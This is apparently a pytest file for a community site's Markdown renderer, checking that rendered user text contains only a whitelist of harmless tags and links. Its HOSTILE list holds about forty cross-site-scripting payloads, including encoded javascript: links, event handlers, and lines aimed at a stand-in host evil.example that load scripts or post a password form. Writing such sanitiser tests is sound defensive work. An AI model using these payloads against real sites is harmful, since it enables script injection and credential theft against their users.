"""What members write can do no harm to those who read it."""

import re

import pytest

from fengqun.kernel.richtext import Markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[a](http://ok.example "title" onmouseover=alert(1))',
    "[a](http://ok.example'onmouseover='alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick=alert(1)\nx\n```',
    "\x00<script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
]
KNOWN = re.compile(
    r"</?(?:p|br|hr|em|strong|s|blockquote|code|pre|ul|ol|li|h[234]|table|thead|tbody|tr|th|td)>|</a>"
    r"|<a (?:href=\"(?:https?://|mailto:|/)[^\"<>]*\" )?rel=\"nofollow ugc noopener\">"
)


WAYS = [Markdown(has_tables=True), Markdown(first_heading=3, keeps_line_breaks=True)]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_comes_out_harmless(source, way):
    html = way.html(source)
    # nothing but the known tags is left, and those carry nothing but a harmless address
    assert "<" not in KNOWN.sub("", html), html


@pytest.mark.parametrize("way", WAYS)
def test_a_hostile_page_of_everything_at_once_is_harmless(way):
    html = way.html("\n\n".join(HOSTILE))
    assert "<" not in KNOWN.sub("", html)


def test_headings_start_below_those_of_the_page():
    assert Markdown(first_heading=3).html("# 一\n\n## 二\n\n###### 六") == "<h3>一</h3>\n<h4>二</h4>\n<h4>六</h4>\n"


def test_tables_are_for_those_who_want_them():
    source = "| 产地 |\n| --- |\n| 耶加 |"
    assert Markdown(has_tables=True).html(source).startswith("<table>\n<thead>\n<tr>\n<th>产地</th>")
    assert "<table" not in Markdown().html(source)


def test_links_say_that_they_were_written_by_users():
    assert Markdown().html("[豆单](https://example.com/a?b=1&c=2)") == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" rel="nofollow ugc noopener">豆单</a></p>\n'
    )
